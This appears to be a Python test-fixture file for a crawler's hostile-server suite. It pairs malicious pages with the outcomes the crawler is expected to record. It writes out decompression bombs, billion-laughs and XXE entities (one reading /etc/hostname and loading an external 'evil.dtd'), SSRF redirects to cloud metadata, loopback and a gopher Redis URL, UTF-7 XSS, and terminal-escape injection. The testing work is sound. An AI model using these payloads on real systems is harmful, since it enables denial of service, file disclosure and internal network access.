"""The cases: what a site does, and the outcome of each of its pages that is recorded.

An article's page is `/a/…`; the listing of each site leads to it. The numbers are the smallest that matter: more than a
limit of the crawler, or as many as a published attack has.
"""

import gzip
import itertools
import json
import struct
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import NamedTuple

import brotli

from tests.hostile.server import Reset, Send, head, redirect, reply, slowly

PUBLIC = "http://192.0.2.1"  # documentation only (RFC 5737): nobody answers, and the crawler must not ask
MB = 1 << 20
FILLER = "A sentence of the article that stands beside what the page does, on stem cells and skin. " * 12
PAGE = f"<article><h1>A plain title of a story</h1><p>{FILLER}</p><p>{FILLER}</p></article>"
STORED = ("stored", None)
TOO_LARGE = ("refused", "too large")
TIMED_OUT = ("failed", "timed out")
BROKEN = ("failed", "broken connection")
CUT_SHORT = ("failed", "cut short")
PRIVATE = ("refused", "private address")
BAD_ADDRESS = ("refused", "bad address")
LOOP = ("refused", "redirect loop")
READ = ("read", None)

Pages = Mapping[str, Callable[[], Send]]
Outcomes = Mapping[str, tuple[str, str | None]]


class Case(NamedTuple):
    """A site: its pages, the last recorded outcome of each, further keys of its file, and its robots.txt.

    In keys, `{url}` stands for the site's address.
    """

    name: str
    pages: Pages
    outcomes: Outcomes
    keys: Mapping[str, str] = {}
    robots: Callable[[], Send] | None = None


def article(name: str, send: Callable[[], Send], outcome: tuple[str, str | None]) -> Case:
    """A case of one article's page."""
    path = f"/a/{name.replace(' ', '-')}"
    return Case(name, {path: send}, {path: outcome})


def listed(name: str, kind: str, send: Callable[[], Send], outcome: tuple[str, str | None] = READ) -> Case:
    """A case of a feed, sitemap or listing."""
    path = "/list/1" if kind == "listings" else f"/{kind}.xml"
    keys = {"listings": "[]", kind: f'["{{url}}{path}"]'}
    return Case(name, {path: send}, {path: outcome}, keys)


def page(body: str = "", top: str = "", *headers: str) -> Send:
    """Return a page with an article, and with `body` behind it and `top` in its head."""
    return reply(f"<html><head><title>A plain title of a story</title>{top}</head><body>{PAGE}{body}", *headers)


def endless(piece: bytes, first: bytes = b"") -> Iterator[bytes]:
    """Yield `first`, and then `piece` for ever."""
    yield first
    yield from itertools.repeat(piece)


def chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def packed(kind: str, size: int) -> bytes:
    """Return `size` bytes of zeros, compressed."""
    if kind == "br":
        compressor = brotli.Compressor(quality=5)
        pieces = [compressor.process(bytes(MB)) for _ in range(size // MB)]
        return b"".join([*pieces, compressor.finish()])
    bits = zlib.MAX_WBITS + 16 if kind == "gzip" else zlib.MAX_WBITS
    one = zlib.compressobj(9, zlib.DEFLATED, bits)
    return b"".join([*(one.compress(bytes(MB)) for _ in range(size // MB)), one.flush()])


def bomb(kind: str, size: int = 256 * MB) -> Callable[[], Send]:
    """A small answer that unpacks to `size` bytes."""
    return lambda: reply(packed(kind, size), f"Content-Encoding: {kind}")


def zstd_bomb() -> Send:
    """A frame of 2,000 blocks, each of which repeats one byte 128 KiB times."""
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"a"
    last = struct.pack("<I", (128 << 10) << 3 | 1 << 1 | 1)[:3] + b"a"
    return reply(b"\x28\xb5\x2f\xfd\x00\x58" + block * 2_000 + last, "Content-Encoding: zstd")


def reset_after(data: bytes) -> Callable[[], Send]:
    """An answer that is reset after these bytes."""

    def send() -> Iterator[bytes]:
        yield data
        raise Reset

    return send


def chain(hops: int, path: str = "/a/chain") -> Case:
    """Redirects of so many hops to an article."""
    pages: dict[str, Callable[[], Send]] = {path: lambda: redirect("/hop/1")}
    for hop in range(1, hops):
        pages[f"/hop/{hop}"] = lambda hop=hop: redirect(f"/hop/{hop + 1}")  # type: ignore[misc]
    pages[f"/hop/{hops}"] = page
    return Case(f"a redirect chain of {hops}", pages, {path: LOOP})


def references(number: int) -> str:
    entries = "".join(
        f"<li>Smith J{n}, Miller K. Stem cells and skin, part {n}. J Invest Dermatol. 2019;{n % 90 + 1}(2):{n}-{n}. "
        f"doi:10.5555/skin.{n}</li>"
        for n in range(1, number + 1)
    )
    return f"<h2>References</h2><ol>{entries}</ol>"


def laughs(root: str, item: str) -> str:
    """A document whose entities expand to a billion words, with `&lol9;` for a link."""
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY lol0 "http://e.example/">{entities}]>{item}'


def external(root: str, item: str) -> str:
    """A document that names a file of the reader's machine and a DTD elsewhere."""
    entity = f'<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{PUBLIC}/evil.dtd">%d;'
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entity}]>{item}'


def rss(items: str) -> str:
    return f'<rss version="2.0"><channel><title>News</title>{items}</channel></rss>'


def sitemap(entries: str) -> str:
    return f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{entries}</urlset>'


def nested(depth: int, start: str, end: str) -> str:
    return start * depth + "x" + end * depth


def json_ld(value: str) -> str:
    return f'<script type="application/ld+json">{value}</script>'


XML = "application/xml"

TRANSFER = (
    article("endless body", lambda: endless(b"<p>more</p>" * 6_000, head()), TOO_LARGE),
    article("endless headers", lambda: endless(b"X-More: and more of it\r\n" * 500, b"HTTP/1.1 200 OK\r\n"), TOO_LARGE),
    article("endless header", lambda: endless(b"x" * 60_000, b"HTTP/1.1 200 OK\r\nX-Long: "), TOO_LARGE),
    article("endless status line", lambda: endless(b"x" * 60_000, b"HTTP/1.1 200 "), TOO_LARGE),
    article(
        "endless folded header", lambda: endless(b" more\r\n" * 9_000, b"HTTP/1.1 200 OK\r\nX-A: b\r\n"), TOO_LARGE
    ),
    article("endless continue", lambda: endless(b"HTTP/1.1 100 Continue\r\n\r\n" * 2_000), TOO_LARGE),
    article("header of 1 MB", lambda: page("", "", "X-Long: " + "x" * MB), TOO_LARGE),
    article("10,000 headers", lambda: page("", "", *(f"X-{n}: {n}" for n in range(10_000))), STORED),
    article(
        "Link header flood", lambda: page("", "", *(f"Link: </x/{n}>; rel=preload" for n in range(20_000))), TOO_LARGE
    ),
    article("ETag of 1 MB", lambda: page("", "", f'ETag: "{"e" * MB}"'), TOO_LARGE),
    article("ETag of 100 KB", lambda: page("", "", f'ETag: "{"e" * 100_000}"'), STORED),
    article(
        "endless chunks",
        lambda: endless(chunk(b"<p>x" * 9_000), head("200 OK", "Transfer-Encoding: chunked")),
        TOO_LARGE,
    ),
    article(
        "endless chunk extension",
        lambda: endless(b"x" * 9_000, head("200 OK", "Transfer-Encoding: chunked") + b"5;"),
        CUT_SHORT,
    ),
    article(
        "chunk of so many bytes",
        lambda: [head("200 OK", "Transfer-Encoding: chunked"), b"3fffffffffffffff\r\n<p>x"],
        CUT_SHORT,
    ),
    article(
        "negative chunk", lambda: [head("200 OK", "Transfer-Encoding: chunked"), b"-5\r\n<p>x\r\n0\r\n\r\n"], CUT_SHORT
    ),
    article(
        "endless trailers",
        lambda: endless(b"X-A: b\r\n" * 900, head("200 OK", "Transfer-Encoding: chunked") + b"0\r\n"),
        CUT_SHORT,
    ),
    article("length without end", lambda: [head(length=1 << 60), b"<p>x"], TOO_LARGE),
    article("negative length", lambda: [head("200 OK", "Content-Length: -1"), PAGE.encode()], BROKEN),
    article("two lengths", lambda: [head("200 OK", "Content-Length: 5", length=9), b"<p>xxxxxxxxxxxx"], BROKEN),
    article(
        "the same length twice",
        lambda: [head("200 OK", f"Content-Length: {len(PAGE)}", length=len(PAGE)), PAGE.encode()],
        STORED,
    ),
    article(
        "length and chunks",
        lambda: [head("200 OK", "Transfer-Encoding: chunked", length=3), chunk(PAGE.encode()), b"0\r\n\r\n"],
        STORED,
    ),
    article("length of another word", lambda: [head("200 OK", "Content-Length: many"), PAGE.encode()], BROKEN),
    article("empty", lambda: reply(b""), ("no article", "empty")),
    article("status 999", lambda: reply(PAGE, status="999 Request Denied"), ("failed", "http 999")),
    article("status 000", lambda: reply(PAGE, status="000 None"), ("failed", "http 0")),
    article("status 600", lambda: reply(PAGE, status="600 Six"), ("failed", "http 600")),
    article("status of a word", lambda: reply(PAGE, status="OK fine"), BROKEN),
    article("no status line", lambda: [PAGE.encode()], BROKEN),
    article("HTTP 0.9", lambda: [b"<html><body>" + PAGE.encode() + b"\n</html>\n"], BROKEN),
    article("another protocol", lambda: [b"SSH-2.0-OpenSSH_9.6\r\n"], BROKEN),
    article("TLS alert", lambda: [b"\x15\x03\x01\x00\x02\x02\x46"], BROKEN),
    article("closed at once", list, BROKEN),
    article("reset at once", reset_after(b""), BROKEN),
    article("reset in the status line", reset_after(b"HTTP/1.1 20"), BROKEN),
    article("reset in the headers", reset_after(b"HTTP/1.1 200 OK\r\nContent-Le"), BROKEN),
    article("reset in the body", reset_after(head(length=90_000) + b"<p>half"), CUT_SHORT),
    article(
        "reset in a chunk", reset_after(head("200 OK", "Transfer-Encoding: chunked") + b"ffff\r\n<p>half"), CUT_SHORT
    ),
)

SLOW = (
    article("slow body", lambda: slowly(endless(b"<p>", head())), TIMED_OUT),
    article("slow headers", lambda: slowly(endless(b"X-A: b\r\n", b"HTTP/1.1 200 OK\r\n")), TIMED_OUT),
    article("slow status line", lambda: slowly(endless(b"H")), TIMED_OUT),
    article("no answer", lambda: slowly(endless(b"")), TIMED_OUT),
    Case(
        "slow robots.txt",
        {"/a/x": page},
        {"/list/1": TIMED_OUT},
        robots=lambda: slowly(endless(b"#", head(kind="text/plain"))),
    ),
)
COMPRESSED = (
    article("gzip bomb", bomb("gzip"), TOO_LARGE),
    article("deflate bomb", bomb("deflate"), TOO_LARGE),
    article("br bomb", bomb("br"), TOO_LARGE),
    article("zstd bomb", zstd_bomb, TOO_LARGE),
    article(
        "nested gzip bomb",
        lambda: reply(gzip.compress(packed("gzip", 256 * MB)), "Content-Encoding: gzip, gzip"),
        TOO_LARGE,
    ),
    article(
        "thousand codings",
        lambda: reply(gzip.compress(PAGE.encode()), "Content-Encoding: " + "gzip, " * 999 + "gzip"),
        STORED,
    ),
    Case(
        "sitemap bomb",
        {"/map.xml.gz": lambda: reply(packed("gzip", 256 * MB), kind="application/gzip")},
        {"/map.xml.gz": READ},
        {"listings": "[]", "sitemaps": '["{url}/map.xml.gz"]'},
    ),
    Case(
        "feed bomb",
        {"/feeds.xml": bomb("gzip")},
        {"/feeds.xml": TOO_LARGE},
        {"listings": "[]", "feeds": '["{url}/feeds.xml"]'},
    ),
)

MARKUP = (
    article("100,000 nested divs", lambda: reply(nested(100_000, "<div>", "</div>")), ("no article", "no text")),
    article("100,000 nested spans", lambda: page(nested(100_000, "<span>", "")), STORED),
    article(
        "million attributes",
        lambda: page(f"<p {' '.join(f'a{n}=b' for n in range(400_000))}>x</p>"),
        ("no article", "too complex"),
    ),
    article("text node of 30 MB", lambda: page("word " * (6 * MB)), TOO_LARGE),
    article("text node of 4 MB", lambda: reply("<p>" + "word " * 900_000), ("no article", "too large")),
    article("line of 10 MB", lambda: page("x" * (10 * MB)), TOO_LARGE),
    article("word of 4 MB", lambda: reply(f"{PAGE}<p>" + "x" * (4 * MB)), ("no article", "too large")),
    article("entity of 4 MB", lambda: reply(f"{PAGE}<p>&" + "x" * (4 * MB)), ("no article", "too large")),
    article("million entities", lambda: page("<p>" + "&amp;" * 1_000_000), ("no article", "too large")),
    article(
        "billion laughs in HTML",
        lambda: reply(laughs("html", f"<html>{PAGE}<p>&lol9;</p></html>"), kind="text/html"),
        STORED,
    ),
    article("external entity in HTML", lambda: reply(external("html", f"<html>{PAGE}<p>&x;</p></html>")), STORED),
    article("unclosed tags", lambda: page("<p><a href=x>" * 40_000), ("no article", "too complex")),
    article("comments", lambda: page("<!--" * 500_000), STORED),
    article("title of 1 MB", lambda: reply(f"<title>{'Title ' * 170_000}</title>{PAGE}"), ("no article", "too large")),
    article("JSON-LD of 20 MB", lambda: page("", json_ld(json.dumps({"a": "x" * (20 * MB)}))), TOO_LARGE),
    article(
        "JSON-LD of 4 MB",
        lambda: page("", json_ld(json.dumps({"@type": "NewsArticle", "a": ["x"] * 800_000}))),
        STORED,
    ),
    article("nested JSON-LD", lambda: page("", json_ld(nested(200_000, '{"a":', "}"))), STORED),
    article("duplicate ids", lambda: page("<p id=a>One more.</p>" * 5_000), STORED),
    article("2,000 references", lambda: page(references(2_000)), STORED),
    article("10,000 markers", lambda: page("".join(f"<p>Said [{n}].</p>" for n in range(10_000))), STORED),
    article(
        "canonical of another host",
        lambda: page("", '<link rel="canonical" href="http://victim.example/a/story">'),
        STORED,
    ),
    article(
        "meta refresh storm", lambda: page("", '<meta http-equiv="refresh" content="0;url=/a/next">' * 5_000), STORED
    ),
    article(
        "refresh to itself",
        lambda: reply('<meta http-equiv="refresh" content="0;url=/a/refresh-to-itself">'),
        ("no article", "no text"),
    ),
    article(
        "script that forwards to a file",
        lambda: reply("<script>location='file:///etc/hostname'</script>"),
        ("no article", "no text"),
    ),
    article("reference bait", lambda: page("<h2>References</h2>" + "<p>" + "A. B., " * 60_000 + "</p>"), STORED),
    article("date bait", lambda: page("<p>" + "2024-" * 60_000 + "</p><time>" + "1" * 100_000 + "</time>"), STORED),
    article(
        "author bait",
        lambda: page("<p>By " + "A" + " van" * 100_000 + "</p>", f'<meta name=author content="{"a." * 200_000}">'),
        STORED,
    ),
    article("address bait", lambda: page("<p>" + "a@" * 100_000 + "http://" * 30_000 + "</p>"), STORED),
    article("white space bait", lambda: page("<p>x" + " " * 1_000_000 + "y" + "\t\n" * 500_000 + "</p>"), STORED),
)

TEXT = (
    article("zeros everywhere", lambda: reply("\0".join(f"<html><body>{PAGE}")), ("no article", "not html")),
    article("only zeros", lambda: reply(bytes(MB)), ("no article", "not html")),
    article(
        "UTF-7",
        lambda: reply("+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + PAGE, kind="text/html; charset=utf-7"),
        STORED,
    ),
    article("unknown charset", lambda: reply(PAGE, kind="text/html; charset=x-no-such-thing"), STORED),
    article(
        "contradictory charsets",
        lambda: reply(
            f"<meta charset=gbk><meta charset=big5>{PAGE}干细胞治疗皮肤病。", kind="text/html; charset=koi8-r"
        ),
        STORED,
    ),
    article("codec of another kind", lambda: reply(PAGE, kind="text/html; charset=zlib_codec"), STORED),
    article(
        "lone surrogates", lambda: page("<p>Surrogates &#xD800; &#xDFFF; \ud800 \udfff, &#x110000; &#0;.</p>"), STORED
    ),
    article(
        "bidirectional controls",
        lambda: page("<p>A name \u202egnp.exe\u202c and \u2066more\u2069, \u200f\u200e.</p>"),
        STORED,
    ),
    article("terminal controls", lambda: page("<p>\x1b]0;owned\x07\x1b[2J\x9b31m and more.</p>"), STORED),
    article("image that is HTML", lambda: reply(f"<html>{PAGE}", kind="image/png"), STORED),
    article("HTML that is an image", lambda: reply(b"\x89PNG\r\n\x1a\n" + bytes(5_000)), ("no article", "not html")),
    article("HTML that is an archive", lambda: reply(b"PK\x03\x04" + bytes(5_000)), ("no article", "not html")),
    article("Last-Modified of no date", lambda: page("", "", "Last-Modified: \xff\xfe yesterday; drop table"), STORED),
    article("Retry-After of no number", lambda: page("", "", "Retry-After: \xff -1e99 soon"), STORED),
    article(
        "Retry-After below zero", lambda: reply(PAGE, "Retry-After: -5", status="503 Busy"), ("failed", "http 503")
    ),
    article(
        "Retry-After of thirty years",
        lambda: reply(PAGE, "Retry-After: 1000000000", status="503 Busy"),
        ("failed", "http 503"),
    ),
    article(
        "Retry-After of 400 digits",
        lambda: reply(PAGE, f"Retry-After: 1{'0' * 400}", status="503 Busy"),
        ("failed", "http 503"),
    ),
)


def elsewhere(name: str, where: str, outcome: tuple[str, str | None]) -> Case:
    """A case of a page that redirects there."""
    return article(f"redirect to {name}", lambda: redirect(where), outcome)


REDIRECTS = (
    article("redirect to itself", lambda: redirect("/a/redirect-to-itself"), LOOP),
    Case(
        "redirects in a circle",
        {"/a/one": lambda: redirect("/b/two"), "/b/two": lambda: redirect("/a/one")},
        {"/a/one": LOOP},
    ),
    chain(50),
    elsewhere("a file", "file:///etc/hostname", BAD_ADDRESS),
    elsewhere("data", "data:text/html,<p>x</p>", BAD_ADDRESS),
    elsewhere("a script", "javascript:alert(1)", BAD_ADDRESS),
    elsewhere("FTP", "ftp://127.0.0.1/x", BAD_ADDRESS),
    elsewhere("gopher", "gopher://127.0.0.1:6379/_INFO", BAD_ADDRESS),
    elsewhere("a private address", "http://10.0.0.1/", PRIVATE),
    elsewhere("the cloud's metadata", "http://169.254.169.254/latest/meta-data/", PRIVATE),
    elsewhere("loopback", "http://127.0.0.9:5432/", PRIVATE),
    elsewhere("loopback by name", "http://localhost:22/", PRIVATE),
    elsewhere("a number", "http://2130706433/", PRIVATE),
    elsewhere("a hexadecimal number", "http://0x7f.1/", PRIVATE),
    elsewhere("an octal number", "http://0177.0.0.1/", PRIVATE),
    elsewhere("a short address", "http://127.1/", PRIVATE),
    elsewhere("full-width digits", "http://%EF%BC%91%EF%BC%92%EF%BC%97.0.0.1/", PRIVATE),
    elsewhere("a multicast address", "http://224.0.0.251/", PRIVATE),
    elsewhere("a reserved address", "http://240.0.0.1/", PRIVATE),
    elsewhere("broadcast", "http://255.255.255.255/", PRIVATE),
    elsewhere("this network", "http://0.0.0.0/", PRIVATE),
    elsewhere("a shared address", "http://100.64.0.1/", PRIVATE),
    elsewhere("IPv6 loopback", "http://[::1]/", PRIVATE),
    elsewhere("a mapped address", "http://[::ffff:127.0.0.1]/", PRIVATE),
    elsewhere("a translated address", "http://[64:ff9b::7f00:1]/", PRIVATE),
    elsewhere("a user's host", "http://10.0.0.1\\@public.example/", PRIVATE),
    article("redirect to 9,000 characters", lambda: redirect(f"/b/{'x' * 9_000}"), ("gone", "http 404")),
    article(
        "redirect with cookies",
        lambda: redirect("/a/redirect-with-cookies", *(f"Set-Cookie: c{n}={'v' * 90}" for n in range(900))),
        LOOP,
    ),
    article(
        "redirect with a large cookie",
        lambda: redirect("/a/redirect-with-a-large-cookie", "Set-Cookie: c=" + "v" * 16_000),
        LOOP,
    ),
    article("cookie of 100 KB", lambda: page("", "", f"Set-Cookie: c={'v' * 100_000}"), STORED),
)

LISTS = (
    listed(
        "billion laughs in a feed",
        "feeds",
        lambda: reply(laughs("rss", rss("<item><link>&lol9;</link></item>")), kind=XML),
    ),
    listed(
        "external entity in a feed",
        "feeds",
        lambda: reply(external("rss", rss("<item><title>&x;</title><link>&x;</link></item>")), kind=XML),
    ),
    listed(
        "feed of 100,000 items",
        "feeds",
        lambda: reply(rss("".join(f"<item><link>/b/{n}</link></item>" for n in range(100_000))), kind=XML),
    ),
    listed(
        "feed of the year 9999",
        "feeds",
        lambda: reply(
            rss(
                "".join(
                    f"<item><link>/b/{n}</link><pubDate>{date}</pubDate></item>"
                    for n, date in enumerate(
                        (
                            "Fri, 31 Dec 9999 23:59:59 -1200",
                            "Mon, 01 Jan -1 00:00:00 GMT",
                            "Mon, 01 Jan 0001 00:00:00 +1400",
                            "99999-01-01",
                            "٢٠٢٤-٠١-٠١",
                            "9" * 5_000,
                        )
                    )
                )
            ),
            kind=XML,
        ),
    ),
    listed("deep feed", "feeds", lambda: reply(rss(nested(100_000, "<item>", "</item>")), kind=XML)),
    listed("feed of unclosed items", "feeds", lambda: reply(rss("<item><title>" * 100_000), kind=XML)),
    listed("JSON feed of brackets", "feeds", lambda: reply("[" * 1_000_000, kind="application/feed+json")),
    listed(
        "billion laughs in a sitemap",
        "sitemaps",
        lambda: reply(laughs("urlset", sitemap("<url><loc>&lol9;</loc></url>")), kind=XML),
    ),
    listed(
        "external entity in a sitemap",
        "sitemaps",
        lambda: reply(external("urlset", sitemap("<url><loc>&x;</loc></url>")), kind=XML),
    ),
    listed(
        "sitemap of 40 MB",
        "sitemaps",
        lambda: reply(sitemap("<url><loc>http://e.example/a</loc></url>" * 1_000_000), kind=XML),
    ),
    listed(
        "sitemap index of itself",
        "sitemaps",
        lambda: reply("<sitemapindex><sitemap><loc>/sitemaps.xml</loc></sitemap></sitemapindex>", kind=XML),
    ),
    listed(
        "100,000 links", "listings", lambda: reply("".join(f'<a href="/c/{n}">Link {n}</a>' for n in range(100_000)))
    ),
    listed(
        "calendar",
        "listings",
        lambda: reply("".join(f'<a href="/calendar/{year}/05/">{year}</a>' for year in range(1000, 9999))),
    ),
)


def endless_calendar() -> Case:
    """A calendar whose every page has articles' URLs that lead to the next ones."""
    links = "".join(f'<a href="/calendar/a/{year}/05/">{year}</a>' for year in range(1990, 2090))
    pages: dict[str, Callable[[], Send]] = {"/list/1": lambda: reply(links)}
    return Case(
        "endless calendar",
        pages,
        {"/calendar/a/2031/05/": ("refused", "trap: endless calendar")},
        {"articles": "['/a/']"},
    )


def sessions() -> Case:
    """A listing whose links have another session id each time."""
    links = "".join(f'<a href="/a/{n:032x}/story">Story</a>' for n in range(1, 400))
    pages: dict[str, Callable[[], Send]] = {"/list/1": lambda: reply(links)}
    return Case("session ids in the path", pages, {"/list/1": READ})


ROBOTS = (
    Case(
        "robots.txt of 100 MB",
        {"/a/x": page},
        {"/a/x": STORED},
        robots=lambda: itertools.chain([head(length=100 * MB, kind="text/plain")], itertools.repeat(b"#" * MB, 100)),
    ),
    Case(
        "endless robots.txt",
        {"/a/x": page},
        {"/a/x": STORED},
        robots=lambda: endless(b"Disallow: /b\n" * 6_000, head(kind="text/plain")),
    ),
    Case(
        "robots.txt that redirects to itself", {"/a/x": page}, {"/a/x": STORED}, robots=lambda: redirect("/robots.txt")
    ),
    Case("robots.txt bomb", {"/a/x": page}, {"/a/x": STORED}, robots=bomb("gzip")),
    Case(
        "robots.txt of stars",
        {"/a/x": page},
        {"/a/x": STORED},
        robots=lambda: reply(f"User-agent: *\nDisallow: /{'*a' * 30_000}$\n" * 6, kind="text/plain"),
    ),
    Case(
        "robots.txt at a private address",
        {"/a/x": page},
        {"/list/1": PRIVATE},
        robots=lambda: redirect("http://10.0.0.1/robots.txt"),
    ),
)

GROUPS: Mapping[str, tuple[Case, ...]] = {
    "transfer": TRANSFER,
    "slow": SLOW,
    "compressed": COMPRESSED,
    "markup": MARKUP,
    "text": TEXT,
    "redirects": REDIRECTS,
    "lists": (*LISTS, endless_calendar(), sessions()),
    "robots": ROBOTS,
}
